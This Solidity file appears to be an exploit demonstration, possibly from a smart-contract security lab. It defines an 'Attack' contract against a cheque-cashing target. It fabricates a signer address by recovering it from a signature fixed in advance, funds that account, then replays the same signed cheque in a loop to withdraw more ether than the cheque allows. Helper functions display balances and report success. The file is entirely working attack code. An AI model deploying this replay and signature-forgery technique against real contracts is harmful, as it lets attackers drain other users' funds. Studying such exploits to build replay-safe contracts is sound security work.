// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITarget {
    function deposit(address account) external payable;
    function chequeOf(address payee, uint256 amount, uint256 number) external view returns (bytes32);
    function cash(uint256 amount, uint256 number, uint8 v, bytes32 r, bytes32 s) external;
    function balanceOf(address account) external view returns (uint256);
}

/// @notice The payee of one cheque, who presents it again and again.
contract Attack {
    uint256 private constant AMOUNT = 10 ether;
    address private constant BOB = address(0xB0B);

    // A signature chosen before the message: for each message, the address that is recovered has signed it.
    uint8 private constant V = 27;
    bytes32 private constant R = 0x79be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798;
    bytes32 private constant S = 0x0a77ac7e0a77ac7e0a77ac7e0a77ac7e0a77ac7e0a77ac7e0a77ac7e0a77ac7e;

    ITarget private immutable _target;
    address private immutable _alice;

    constructor(address target) payable {
        _target = ITarget(target);
        _alice = ecrecover(_target.chequeOf(address(this), AMOUNT, 1), V, R, S);
        _target.deposit{ value: 60 ether }(_alice);
        _target.deposit{ value: 40 ether }(BOB);
    }

    /// @param parameter How often the cheque is presented.
    function attack(uint256 parameter) external {
        for (uint256 i = 0; i < parameter; i++) {
            try _target.cash(AMOUNT, 1, V, R, S) { } catch { }
        }
    }

    receive() external payable { }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](3);
        amounts = new uint256[](3);
        (names[0], amounts[0]) = ("Ether in Alice's account", _target.balanceOf(_alice));
        (names[1], amounts[1]) = ("Ether in Bob's account", _target.balanceOf(BOB));
        (names[2], amounts[2]) = ("Ether the attacker holds", address(this).balance);
    }

    /// @return The attacker was paid more than the cheque says.
    function succeeded() external view returns (bool) {
        return address(this).balance > AMOUNT;
    }
}
